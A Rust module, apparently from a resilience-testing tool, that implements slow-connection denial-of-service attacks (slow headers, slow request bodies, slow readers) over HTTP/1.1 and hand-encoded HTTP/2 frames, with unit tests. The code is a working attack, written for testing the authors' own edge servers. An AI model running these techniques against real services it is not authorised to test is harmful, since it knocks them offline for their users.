//! What is said on a connection that is held, byte by byte, over HTTP/1.1 and HTTP/2.

use std::io;

use tokio::io::{AsyncRead, AsyncReadExt, AsyncWrite, AsyncWriteExt};

use crate::scenario::{Attacker, Way};

/// Pages that a slow reader asks for at once: more than fits into the sockets between him and the edge.
const READ_AT_ONCE: usize = 200;
/// The same over HTTP/2, where each is a stream.
const STREAMS_AT_ONCE: u32 = 20;

/// What a slow form says it will hold, and a slow head of HTTP/2: less than any edge of ours refuses by its length.
const FORM_LENGTH: &str = "20000";
const HEAD_LENGTH: u32 = 6_000;

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";

/// Types, flags and numbers of RFC 9113 (sections 6 and 6.5.2).
const DATA: u8 = 0;
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const WINDOW_UPDATE: u8 = 8;
const ACK: u8 = 1;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;
const INITIAL_WINDOW_SIZE: u16 = 4;

/// Frames that are read whole; the edge says no longer ones on its own account.
const FRAME_MAX: usize = 16 * 1024;

/// Holds it until the peer closes; returns the first status it said.
pub(crate) async fn hold<S>(stream: S, attacker: &Attacker, host: &str) -> io::Result<Option<u16>>
where
    S: AsyncRead + AsyncWrite + Unpin,
{
    if attacker.protocol.is_h2() {
        h2(stream, attacker, host).await
    } else {
        http1(stream, attacker, host).await
    }
}

async fn http1<S>(mut stream: S, attacker: &Attacker, host: &str) -> io::Result<Option<u16>>
where
    S: AsyncRead + AsyncWrite + Unpin,
{
    let (first, drip): (String, &[u8]) = match attacker.way {
        Way::SlowHead => (format!("GET / HTTP/1.1\r\nHost: {host}\r\nX-Slow: "), b"a"),
        Way::SlowBody => (
            format!(
                "POST /cart/add HTTP/1.1\r\nHost: {host}\r\nContent-Type: application/x-www-form-urlencoded\r\n\
                 Content-Length: {FORM_LENGTH}\r\n\r\n"
            ),
            b"a",
        ),
        Way::SlowReader => {
            let request = format!("GET /products HTTP/1.1\r\nHost: {host}\r\n\r\n");
            (request.repeat(READ_AT_ONCE), b"")
        }
        Way::Hold => (String::new(), b""),
    };
    stream.write_all(first.as_bytes()).await?;
    stream.flush().await?;
    let mut status = None;
    let mut piece = [0; 512];
    let mut ticks = tokio::time::interval(attacker.interval.0);
    loop {
        if attacker.way == Way::SlowReader {
            ticks.tick().await;
            if stream.read(&mut piece[..1]).await? == 0 {
                return Ok(status);
            }
            continue;
        }
        tokio::select! {
            read = stream.read(&mut piece) => {
                let read = match read {
                    Ok(0) | Err(_) => return Ok(status),
                    Ok(read) => read,
                };
                status = status.or_else(|| said(&piece[..read]));
            }
            _ = ticks.tick() => {
                if stream.write_all(drip).await.is_err() || stream.flush().await.is_err() {
                    return Ok(status);
                }
            }
        }
    }
}

/// The status of an answer's first line.
fn said(bytes: &[u8]) -> Option<u16> {
    let line = bytes.strip_prefix(b"HTTP/1.1 ")?;
    std::str::from_utf8(line.get(..3)?).ok()?.parse().ok()
}

async fn h2<S>(mut stream: S, attacker: &Attacker, host: &str) -> io::Result<Option<u16>>
where
    S: AsyncRead + AsyncWrite + Unpin,
{
    let (first, drip) = h2_words(attacker.way, attacker.protocol.is_tls(), host);
    stream.write_all(&first).await?;
    stream.flush().await?;
    let (mut status, mut unread) = (None, Vec::new());
    let mut piece = [0; 4096];
    let mut ticks = tokio::time::interval(attacker.interval.0);
    loop {
        tokio::select! {
            read = stream.read(&mut piece) => {
                let read = match read {
                    Ok(0) | Err(_) => return Ok(status),
                    Ok(read) => read,
                };
                unread.extend_from_slice(&piece[..read]);
                let heard = Heard::take(&mut unread);
                status = status.or(heard.status);
                // A slow sender's stream is what the attack is about; a connection without it holds nothing.
                if heard.ended && matches!(attacker.way, Way::SlowHead | Way::SlowBody) {
                    return Ok(status);
                }
                // Nothing but a head is under way in the middle of one.
                if attacker.way != Way::SlowHead && !heard.reply.is_empty()
                    && (stream.write_all(&heard.reply).await.is_err() || stream.flush().await.is_err())
                {
                    return Ok(status);
                }
            }
            _ = ticks.tick() => {
                if stream.write_all(&drip).await.is_err() || stream.flush().await.is_err() {
                    return Ok(status);
                }
            }
        }
    }
}

/// What is said over HTTP/2 at once, and then again and again.
fn h2_words(way: Way, is_tls: bool, host: &str) -> (Vec<u8>, Vec<u8>) {
    let scheme = if is_tls { 0x87 } else { 0x86 };
    let mut first = PREFACE.to_vec();
    let mut drip: Vec<u8> = Vec::new();
    match way {
        Way::Hold => frame(&mut first, SETTINGS, 0, 0, &[]),
        Way::SlowHead => {
            frame(&mut first, SETTINGS, 0, 0, &[]);
            let mut head = get(scheme, host, "/");
            head.extend_from_slice(b"\x00\x06x-slow");
            // The rest of the frame is the field's value, whose length takes three octets (RFC 7541, section 5.1).
            let beyond_prefix = HEAD_LENGTH - head.len() as u32 - 3 - 127;
            head.extend_from_slice(&[
                0x7f,
                0x80 | (beyond_prefix & 0x7f) as u8,
                (beyond_prefix >> 7) as u8,
            ]);
            first.extend_from_slice(&HEAD_LENGTH.to_be_bytes()[1..]);
            first.extend_from_slice(&[HEADERS, END_HEADERS | END_STREAM, 0, 0, 0, 1]);
            first.extend_from_slice(&head);
            drip.push(b'a');
        }
        Way::SlowBody => {
            frame(&mut first, SETTINGS, 0, 0, &[]);
            let mut head = vec![0x83, scheme];
            field(&mut head, &[0x01], host);
            field(&mut head, &[0x04], "/cart/add");
            field(&mut head, &[0x0f, 0x0d], FORM_LENGTH);
            field(
                &mut head,
                &[0x0f, 0x10],
                "application/x-www-form-urlencoded",
            );
            frame(&mut first, HEADERS, END_HEADERS, 1, &head);
            frame(&mut drip, DATA, 0, 1, b"a");
        }
        Way::SlowReader => {
            let [high, low] = INITIAL_WINDOW_SIZE.to_be_bytes();
            frame(&mut first, SETTINGS, 0, 0, &[high, low, 0, 0, 0, 1]);
            for number in 0..STREAMS_AT_ONCE {
                let head = get(scheme, host, "/products");
                frame(
                    &mut first,
                    HEADERS,
                    END_HEADERS | END_STREAM,
                    2 * number + 1,
                    &head,
                );
            }
            frame(&mut drip, WINDOW_UPDATE, 0, 1, &1_u32.to_be_bytes());
        }
    }
    (first, drip)
}

/// A frame (RFC 9113, section 4.1) of content that is shorter than any bound.
fn frame(out: &mut Vec<u8>, kind: u8, flags: u8, stream: u32, content: &[u8]) {
    let length = u32::try_from(content.len()).unwrap_or_default();
    out.extend_from_slice(&length.to_be_bytes()[1..]);
    out.extend_from_slice(&[kind, flags]);
    out.extend_from_slice(&stream.to_be_bytes());
    out.extend_from_slice(content);
}

/// A field that is not indexed (RFC 7541, section 6.2.2), its name by a number of the static table.
fn field(out: &mut Vec<u8>, name: &[u8], value: &str) {
    out.extend_from_slice(name);
    // Values are below 127 bytes: names of hosts and paths of ours.
    out.push(u8::try_from(value.len()).unwrap_or(126).min(126));
    out.extend_from_slice(&value.as_bytes()[..value.len().min(126)]);
}

/// The block of a GET.
fn get(scheme: u8, host: &str, path: &str) -> Vec<u8> {
    let mut head = vec![0x82, scheme];
    field(&mut head, &[0x01], host);
    field(&mut head, &[0x04], path);
    head
}

/// What the edge said in whole frames.
#[derive(Debug, Default)]
struct Heard {
    status: Option<u16>,
    /// A stream came to its end.
    ended: bool,
    /// What courtesy demands.
    reply: Vec<u8>,
}

impl Heard {
    fn take(unread: &mut Vec<u8>) -> Self {
        let mut heard = Self::default();
        while let Some((head, rest)) = unread.split_first_chunk::<9>() {
            let length = u32::from_be_bytes([0, head[0], head[1], head[2]]) as usize;
            let (kind, flags) = (head[3], head[4]);
            if length > FRAME_MAX {
                unread.clear();
                break;
            }
            let Some(content) = rest.get(..length) else {
                break;
            };
            match kind {
                SETTINGS if flags & ACK == 0 => frame(&mut heard.reply, SETTINGS, ACK, 0, &[]),
                PING if flags & ACK == 0 => frame(&mut heard.reply, PING, ACK, 0, content),
                HEADERS => heard.status = heard.status.or_else(|| h2_status(content)),
                RST_STREAM => heard.ended = true,
                _ => {}
            }
            heard.ended |= matches!(kind, HEADERS | DATA) && flags & END_STREAM != 0;
            unread.drain(..9 + length);
        }
        heard
    }
}

/// The status that begins a block of fields: of the static table, or three digits that are not Huffman's.
fn h2_status(block: &[u8]) -> Option<u16> {
    match block {
        [indexed @ 0x88..=0x8e, ..] => {
            let known = [200, 204, 206, 304, 400, 404, 500];
            known.get(usize::from(indexed - 0x88)).copied()
        }
        [0x08 | 0x18 | 0x48, 3, digits @ ..] => {
            std::str::from_utf8(digits.get(..3)?).ok()?.parse().ok()
        }
        _ => None,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_status_is_read() {
        assert_eq!(said(b"HTTP/1.1 408 Request Timeout\r\n"), Some(408));
        assert_eq!(said(b"HTTP/1.1 4"), None);
        assert_eq!(said(b""), None);
        assert_eq!(h2_status(&[0x8c, 1]), Some(400));
        assert_eq!(h2_status(b"\x48\x03408"), Some(408));
        assert_eq!(h2_status(b"\x48\x8240"), None);
        assert_eq!(h2_status(&[]), None);
    }

    #[test]
    fn frames_are_heard_when_they_are_whole() {
        let mut said = Vec::new();
        frame(&mut said, SETTINGS, 0, 0, &[0, 3, 0, 0, 0, 100]);
        frame(&mut said, PING, 0, 0, b"12345678");
        frame(&mut said, HEADERS, END_HEADERS, 1, b"\x48\x03408");
        let cut = said.split_off(said.len() - 2);
        let heard = Heard::take(&mut said);
        assert_eq!((heard.status, heard.ended), (None, false));
        assert_eq!(heard.reply.len(), 9 + 17);
        said.extend_from_slice(&cut);
        frame(&mut said, DATA, END_STREAM, 1, b"");
        let heard = Heard::take(&mut said);
        assert_eq!((heard.status, heard.ended), (Some(408), true));
        assert!(heard.reply.is_empty() && said.is_empty());
    }

    /// Hostile as it is, it is HTTP/2 that a server takes: what each way says, finished, is a request.
    #[tokio::test]
    async fn what_is_said_is_http2() {
        for (way, path) in [
            (Way::SlowHead, "/"),
            (Way::SlowBody, "/cart/add"),
            (Way::SlowReader, "/products"),
        ] {
            let (mut said, drip) = h2_words(way, true, "shop.example");
            match way {
                // Behind the preface and the heads of two frames.
                Way::SlowHead => said.resize(PREFACE.len() + 9 + 9 + HEAD_LENGTH as usize, drip[0]),
                _ => said.extend_from_slice(&drip),
            }
            let (mut ours, theirs) = tokio::io::duplex(1 << 16);
            let server = tokio::spawn(async move {
                let mut connection = h2::server::handshake(theirs).await.expect("a preface");
                let (request, _) = connection.accept().await.expect("one").expect("a request");
                request
            });
            ours.write_all(&said).await.expect("taken");
            let request = server.await.expect("ends");
            assert_eq!(request.uri().path(), path, "{}", way.name());
            if way == Way::SlowHead {
                assert!(request.headers()["x-slow"].len() > 5000);
            }
        }
    }
}
